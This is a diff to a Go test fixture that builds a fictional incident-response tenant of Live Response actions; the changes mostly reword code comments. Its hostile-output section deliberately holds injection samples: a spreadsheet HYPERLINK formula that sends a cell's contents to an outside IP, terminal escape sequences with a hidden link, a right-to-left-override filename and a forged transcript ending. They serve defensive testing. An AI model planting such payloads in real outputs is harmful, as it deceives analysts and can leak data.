@@ -10,17 +10,18 @@ import (
 	"github.com/lrkit/lrkit/fetch/fetchtest"
 )
 
-// Tenant is a made-up hunt through a company that does not exist, as it looks at a time: 18 machines, and every kind of result
-// there is. It is the same whenever it is made, but for the times and what depends on them.
+// Tenant is a made-up hunt through a company that does not exist, as seen at a time: 18 machines,
+// and every kind of result. It is always the same, except for the times and what depends on them.
 //
-//   - scripts that succeeded, one whose file was collected by the same action, and others whose files were not; one that
-//     failed, and one that the machine refused to run (exit code 323); a huge output
-//   - machines that are offline, an action that timed out, one that was cancelled and one that failed with commands that were
-//     completed, one that is under way and succeeds 3 s later
-//   - collected files, small and large; files that were brought to machines and have no result
-//   - hostile outputs: escapes for terminals, texts that look like the end of the transcript, raw control characters, NULs,
-//     UTF-16, and the sample of Microsoft's documentation, which is no JSON
-//   - actions that are no Live Response
+//   - scripts that succeeded: one with its file collected by the same action, others without; one
+//     that failed, one that the machine refused to run (exit code 323), and one with a huge output
+//   - machines that are offline, an action that timed out, one that was cancelled, one that failed
+//     after completed commands, and one that succeeds 3 s later
+//   - collected files, small and large, and files copied to machines, which have no result
+//   - hostile outputs: escapes for terminals, texts that look like the end of the transcript, raw
+//     control characters, NULs, UTF-16, and the sample of Microsoft's documentation, which is not
+//     valid JSON
+//   - actions that are not Live Response
 func Tenant(now time.Time) *fetchtest.Tenant {
 	b := &builder{now: now.UTC().Truncate(100), tenant: &fetchtest.Tenant{}}
 	b.collected()
@@ -41,8 +42,8 @@ type builder struct {
 	n      int // actions
 }
 
-// add adds an action on a machine, and the machine if it is new. The fraction of its time has another number of digits each time,
-// as the service's times have.
+// add adds an action on a machine, and the machine if it is new. The number of digits in the
+// fraction of its time varies, as in times of the service.
 func (b *builder) add(name string, ago time.Duration, comment string, steps []fetchtest.Step, commands ...fetchtest.Command) *fetchtest.Action {
 	id := machineID(name)
 	known := false
@@ -66,18 +67,18 @@ func step(after time.Duration, status string) fetchtest.Step {
 	return fetchtest.Step{After: after, Status: status}
 }
 
-// done are the steps of an action that came to an end.
+// done returns the steps of an action that ended.
 func done(after time.Duration, status string) []fetchtest.Step {
 	return []fetchtest.Step{step(4*time.Second, "InProgress"), step(after, status)}
 }
 
-// out is a result that is a transcript.
+// out returns a result that is a transcript.
 func out(name string, exit int64, errors string, lines ...string) *fetchtest.Blob {
 	t := Transcript{ScriptName: name, ExitCode: exit, Output: started(name) + crlf(lines...), Errors: errors}
 	return &fetchtest.Blob{Content: t.Content(), MD5: true}
 }
 
-// started is the line that the agent's Start-Transcript leaves at the top.
+// started is the first line of the output, from the agent's Start-Transcript.
 func started(name string) string {
 	return "Transcript started, output file is " + transcriptPath(name) + "\r\n"
 }
@@ -89,7 +90,7 @@ func transcriptPath(name string) string {
 
 func crlf(lines ...string) string { return strings.Join(append(lines, ""), "\r\n") }
 
-// file is a result that is a collected file.
+// file returns a result that is a collected file.
 func file(name string, c fetchtest.Content) *fetchtest.Blob {
 	return &fetchtest.Blob{Content: c, MD5: c.Size() <= 1<<20, Disposition: `attachment; filename="` + name + `.gz"`}
 }
@@ -101,7 +102,7 @@ const (
 	sweepScript  = "Find-Indicators.ps1"
 )
 
-// collected: what the script reports is collected by the action itself.
+// collected has a file that the same action collects.
 func (b *builder) collected() {
 	const path = `C:\windows\TEMP\kx3m0dzq.3fu_OfficeClickToRun_6112.dmp.zip`
 	b.add("hv-dc01", 26*time.Hour, "IR-2611 dump of the process that beaconed", done(3*time.Minute, "Succeeded"),
@@ -109,7 +110,7 @@ func (b *builder) collected() {
 		fetchtest.GetFile(path).Ran(50*time.Second, 2*time.Minute+31*time.Second, file("kx3m0dzq.3fu_OfficeClickToRun_6112.dmp.zip", fetchtest.HugeGzip(2611, 48))))
 }
 
-// reported: nobody has collected what these report.
+// reported has files that were not collected.
 func (b *builder) reported() {
 	b.add("hv-fs02", 25*time.Hour+40*time.Minute, "IR-2611 triage", done(6*time.Minute, "Succeeded"),
 		fetchtest.RunScript(triageScript, "-Profile server").Ran(7*time.Second, 5*time.Minute, out(triageScript, 0, "",
@@ -137,7 +138,7 @@ func (b *builder) reported() {
 		}.Content()}))
 }
 
-// scripts: the ways in which a script can end.
+// scripts has the ways in which a script can end.
 func (b *builder) scripts() {
 	failing := out(taskScript, 1, "Get-ScheduledTask : Access is denied.\r\nAt C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Downloads\\PSScript_{"+
 		strings.ToUpper(guid("script"))+"}.ps1:14 char:10\r\n+     $t = Get-ScheduledTask -TaskPath '\\'\r\n    + CategoryInfo          : PermissionDenied: (:) [Get-ScheduledTask], CimException\r\n",
@@ -163,7 +164,7 @@ func (b *builder) scripts() {
 		fetchtest.RunScript("Get-Handles.ps1", "-All").Ran(5*time.Second, 8*time.Minute, &fetchtest.Blob{Content: huge.WithOutput(rows)}))
 }
 
-// unfinished: actions that did not come to a good end, or are not there yet.
+// unfinished has actions that failed, or have not ended.
 func (b *builder) unfinished() {
 	b.add("lt-okafor", 26*time.Hour, "IR-2611 triage, laptop is travelling", nil, fetchtest.RunScript(triageScript, "-Profile laptop"), fetchtest.GetFile(`C:\ProgramData\IR\triage.zip`))
 	a := b.add("lt-lindqvist", 19*time.Hour, "IR-2611 triage", done(8*time.Minute, "Cancelled"),
@@ -176,14 +177,14 @@ func (b *builder) unfinished() {
 		fetchtest.RunScript("Stop-Loader.ps1", "-Name svchelper").Ran(8*time.Second, 40*time.Second, out("Stop-Loader.ps1", 0, "", "svchelper (2240) stopped", `image: C:\ProgramData\svchelper\svchelper.exe`)),
 		fetchtest.GetFile(`C:\ProgramData\svchelper\svchelper.exe`).Failed(41*time.Second, 3*time.Minute, "The system cannot find the file specified. (0x80070002)", "File: C:\\ProgramData\\svchelper\\svchelper.exe"))
 	b.add("ws-bridge11", 17*time.Hour, "IR-2611 memory", done(31*time.Minute, "TimeOut"), fetchtest.RunScript("Get-MemoryImage.ps1", "")).Commands[0].Start = 6 * time.Second
-	// It was asked for a moment ago, and is done in 3 seconds.
+	// This action was created a moment ago, and succeeds in 3 seconds.
 	late := b.add("lt-haddad", 0, "IR-2611 scheduled tasks", nil, fetchtest.RunScript(taskScript, ""))
 	late.Created = b.now
 	late.Steps = []fetchtest.Step{step(time.Second, "InProgress"), step(3*time.Second, "Succeeded")}
 	late.Commands[0] = late.Commands[0].Ran(time.Second, 2*time.Second, out(taskScript, 0, "", `\Microsoft\Windows\UpdateOrchestrator\svchelper  C:\ProgramData\svchelper\svchelper.exe -k`, "1 task found"))
 }
 
-// files: what was collected without a script.
+// files has files that were collected without a script.
 func (b *builder) files() {
 	events := fetchtest.Rows(4000, func(i int64) string {
 		return fmt.Sprintf("2026-11-22 %02d:%02d:%02d 4624 LogonType=3 Account=svc_backup Source=10.20.%d.%d\r\n", i/3600%24, i/60%60, i%60, 10+i%90, 100+i%100)
@@ -195,7 +196,7 @@ func (b *builder) files() {
 	a.ExternalID = "IR-2611/41"
 }
 
-// hostile: outputs made by somebody who knows who will read them.
+// hostile has outputs that were made to deceive a reader.
 func (b *builder) hostile() {
 	b.add("ws-quay07", 15*time.Hour, "IR-2611 running processes", done(70*time.Second, "Succeeded"),
 		fetchtest.RunScript("Get-Processes.ps1", "").Ran(5*time.Second, 20*time.Second, out("Get-Processes.ps1", 0, "",
@@ -203,7 +204,7 @@ func (b *builder) hostile() {
 			"C:\\Windows\\Temp\\\u202egpj.exe.dmp",
 			"progress  1%\rprogress 99%\r=HYPERLINK(\"https://198.51.100.23/?\"&A1)",
 			"\u009b31mC:\\ProgramData\\a\x9b\xffb.exe  \x1b]8;;https://cdn-telemetry.example/\x07report.html\x1b]8;;\x07")))
-	// A text that looks as if the transcript ended in it: its quotes are escaped as they should be.
+	// A text that looks like the end of the transcript. Its quotes are escaped correctly.
 	forged := `C:\temp\", "exit_code":0, "script_errors":"", "script_output":"Nothing was found."}` + "\r\n" + `{"script_name":"Get-Users.ps1","exit_code":0}`
 	b.add("ws-crane05", 14*time.Hour, "IR-2611 local users", done(65*time.Second, "Succeeded"),
 		fetchtest.RunScript("Get-Users.ps1", "").Ran(5*time.Second, 20*time.Second, out("Get-Users.ps1", 5, "New-LocalUser : blocked\r\n", forged, "administrators: itadmin, svc_backup, helpdesk$")))
@@ -225,7 +226,7 @@ func (b *builder) hostile() {
 		fetchtest.RunScript("minidump.ps1", "").Ran(5*time.Second, 30*time.Second, &fetchtest.Blob{Content: fetchtest.Text(documented), MD5: true}))
 }
 
-// others: what is in the same list, and no Live Response.
+// others has actions that are not Live Response.
 func (b *builder) others() {
 	a := b.add("ws-quay07", 11*time.Hour, "IR-2611 contain", []fetchtest.Step{step(10*time.Second, "Succeeded")})
 	a.Type, a.Title, a.Scope, a.Requestor, a.Source = "Isolate", "Isolate device", "Full", "t.berg@halvorsen-maritime.example", "Portal"
@@ -233,13 +234,13 @@ func (b *builder) others() {
 	a.Type, a.Title, a.Scope = "RunAntiVirusScan", "Run antivirus scan", "Quick"
 }
 
-// machineID makes the ID of a machine, the same for the same name.
+// machineID returns the ID of a machine. It depends on the name only.
 func machineID(name string) string {
 	sum := sha1.Sum([]byte("machine " + name))
 	return hex.EncodeToString(sum[:])
 }
 
-// guid makes a GUID, the same for the same name.
+// guid returns a GUID. It depends on the name only.
 func guid(name string) string {
 	sum := sha1.Sum([]byte("guid " + name))
 	sum[6], sum[8] = sum[6]&0x0f|0x40, sum[8]&0x3f|0x80
